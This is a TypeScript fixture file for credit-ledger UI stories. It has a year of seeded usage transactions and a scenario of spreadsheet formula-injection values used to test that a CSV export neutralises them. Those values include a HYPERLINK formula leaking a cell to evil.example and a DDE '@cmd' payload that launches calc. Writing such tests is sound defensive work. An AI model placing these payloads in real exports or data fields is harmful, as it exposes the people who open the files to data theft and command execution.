// Customers for the CreditTransactionHistory stories: a year of usage, and
// transactions whose reasons would run as spreadsheet formulas.
import {
  addCalendarDays,
  createFakeSequence,
  createGrantFixtures,
  type GrantFixtures,
  type SequenceCreditGrant,
  type SequenceCreditTransaction,
} from 'react-credit-grants/testing';
import type { CreditScenarioFactory } from './scenarios';

/** A hostile reason: a formula that would send a cell to another site when the CSV is opened. */
export const HOSTILE_REASON = '=HYPERLINK("https://evil.example/?leak="&A1,"Claim your refund")';

interface Ledger {
  grants: SequenceCreditGrant[];
  transactions: SequenceCreditTransaction[];
}

/** A scenario of grants with the transactions given for them, for one customer. */
function ledgerScenario(today: string, build: (fixtures: GrantFixtures) => Ledger): CreditScenarioFactory {
  return () => {
    const fixtures = createGrantFixtures({ today, seed: 11, currency: 'GBP' });
    const { grants, transactions } = build(fixtures);
    return { fake: createFakeSequence({ grants, transactions, today, customers: [fixtures.customerId] }), customerId: fixtures.customerId };
  };
}

/** Same seed, same numbers: mulberry32, so the stories look the same on every machine. */
function seededInts(seed: number): (min: number, max: number) => number {
  let state = seed >>> 0;
  return (min, max) => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = Math.imul(state ^ (state >>> 15), state | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return min + Math.floor((((t ^ (t >>> 14)) >>> 0) / 4_294_967_296) * (max - min + 1));
  };
}

/** A whole number of minor units (pence, tenths of a minute) as the decimal string Sequence sends. */
function decimalOf(units: number, scale: number): string {
  if (scale === 0) return String(units);
  const digits = String(units).padStart(scale + 1, '0');
  return `${digits.slice(0, -scale)}.${digits.slice(-scale)}`.replace(/\.?0+$/, '');
}

/** One unit's grants and how its usage is invoiced, amounts in minor units of `scale` decimals. */
interface UnitPlan {
  scale: number;
  grants: { build: (amount: string, balance: string) => SequenceCreditGrant; amount: number; reason: string; effective: number; expiry: number }[];
  /** Days (from today) an invoice deducts usage on, and how much usage each one bills. */
  invoiceEvery: number;
  usage: [min: number, max: number];
}

/**
 * A customer a year in, billed as Sequence bills: each invoice deducts its
 * usage from the usable grants of its unit, soonest expiry first, so one
 * invoice can take from two grants. GBP: a welcome credit and the plan's
 * £500 a month (usable for two months; some of it lapses), invoiced twice a
 * week. API calls and tokens every day, GPU minutes every four days, emails
 * weekly, each with its own allowances. About 1,000 transactions in five units;
 * some allowances lapse with credit left.
 */
function yearOfUsage(fx: GrantFixtures): Ledger {
  const int = seededInts(2026);
  const day = (offset: number) => addCalendarDays(fx.today, offset);
  const cash = (name?: string) => (amount: string, balance: string, effective: number, expiry: number) =>
    fx.cashGrant({ ...(name ? { name } : {}), amount, balance, effectiveInDays: effective, expiresInDays: expiry });
  const usage = (unit: string) => (amount: string, balance: string, effective: number, expiry: number) =>
    fx.usageGrant({ unit, amount, balance, effectiveInDays: effective, expiresInDays: expiry });
  const every = (count: number, first: number, step: number, length: number, amount: number, reason: string, make: (amount: string, balance: string, effective: number, expiry: number) => SequenceCreditGrant) =>
    Array.from({ length: count }, (_, index) => {
      const effective = first + step * index;
      return { amount, reason, effective, expiry: effective + length, build: (a: string, b: string) => make(a, b, effective, effective + length) };
    });
  const plans: UnitPlan[] = [
    {
      scale: 2,
      grants: [...every(1, -365, 0, 90, 25_000, 'Welcome offer', cash('Welcome credit')), ...every(12, -360, 30, 59, 50_000, 'Monthly plan credit', cash())],
      invoiceEvery: 3.5,
      usage: [3_000, 8_000],
    },
    { scale: 0, grants: every(4, -365, 91, 120, 250_000, 'Quarterly API allowance', usage('API calls')), invoiceEvery: 1, usage: [1_800, 3_000] },
    { scale: 0, grants: every(12, -360, 30, 44, 5_000_000, 'Monthly token allowance', usage('Tokens')), invoiceEvery: 1, usage: [100_000, 200_000] },
    { scale: 1, grants: every(2, -340, 180, 180, 30_000, 'GPU minutes pack', usage('GPU minutes')), invoiceEvery: 4, usage: [250, 750] },
    { scale: 0, grants: every(4, -365, 91, 100, 25_000, 'Quarterly email allowance', usage('Emails')), invoiceEvery: 7, usage: [1_500, 2_500] },
  ];

  const ledger: Ledger = { grants: [], transactions: [] };
  for (const plan of plans) {
    const left = plan.grants.map((grant) => grant.amount);
    const debits: { grant: number; transaction: Omit<SequenceCreditTransaction, 'grantId'> }[] = [];
    const byExpiry = plan.grants.map((_, index) => index).sort((a, b) => plan.grants[a]!.expiry - plan.grants[b]!.expiry);
    for (let at = -364; at < 0; at += plan.invoiceEvery) {
      const date = Math.floor(at);
      // One invoice a day for all the units it bills.
      const invoice = 1365 + date;
      let billed = int(...plan.usage);
      for (const index of byExpiry) {
        const grant = plan.grants[index]!;
        if (billed === 0 || date < grant.effective || date > grant.expiry || left[index] === 0) continue;
        const taken = Math.min(billed, left[index]!);
        left[index]! -= taken;
        billed -= taken;
        debits.push({ grant: index, transaction: { type: 'DEBIT', amount: decimalOf(taken, plan.scale), date: day(date), reason: `Invoice INV-${invoice}`, invoiceId: `inv_${invoice}` } });
      }
    }
    plan.grants.forEach((planned, index) => {
      const grant = planned.build(decimalOf(planned.amount, plan.scale), decimalOf(left[index]!, plan.scale));
      ledger.grants.push(grant);
      ledger.transactions.push({ grantId: grant.id, type: 'CREDIT', amount: grant.originalAmount, date: day(planned.effective), reason: planned.reason });
      for (const debit of debits) if (debit.grant === index) ledger.transactions.push({ grantId: grant.id, ...debit.transaction });
    });
  }
  return ledger;
}

/** Reasons and a grant name that a spreadsheet would run as formulas: the CSV must neutralise every one. */
function hostileReasons(fx: GrantFixtures): Ledger {
  const welcome = fx.cashGrant({ name: 'Welcome credit', amount: '500', balance: '400', effectiveInDays: -40, expiresInDays: 50 });
  const bonus = fx.cashGrant({ name: '-2+3 bonus', amount: '10', balance: '10', effectiveInDays: -5, expiresInDays: 50 });
  const day = (offset: number) => addCalendarDays(fx.today, offset);
  return {
    grants: [welcome, bonus],
    transactions: [
      { grantId: welcome.id, type: 'CREDIT', amount: '500', date: day(-40), reason: 'Welcome offer' },
      { grantId: welcome.id, type: 'DEBIT', amount: '50', date: day(-30), reason: HOSTILE_REASON, invoiceId: 'inv_1' },
      { grantId: welcome.id, type: 'DEBIT', amount: '30', date: day(-20), reason: '+SUM(1+1)', invoiceId: 'inv_2' },
      { grantId: welcome.id, type: 'DEBIT', amount: '20', date: day(-10), reason: '@cmd|" /C calc"!A0', invoiceId: 'inv_3' },
      { grantId: bonus.id, type: 'CREDIT', amount: '10', date: day(-5), reason: '\t=1+1' },
    ],
  };
}

/** The ledger stories' scenarios, around `today`. */
export function ledgerScenarios(today: string) {
  return {
    /** A year of realistic usage: about 1,000 transactions in GBP, API calls and GPU minutes. */
    ledgerYear: ledgerScenario(today, yearOfUsage),
    /** Reasons (and a grant name) that would run as spreadsheet formulas. */
    ledgerHostile: ledgerScenario(today, hostileReasons),
  } satisfies Record<string, CreditScenarioFactory>;
}
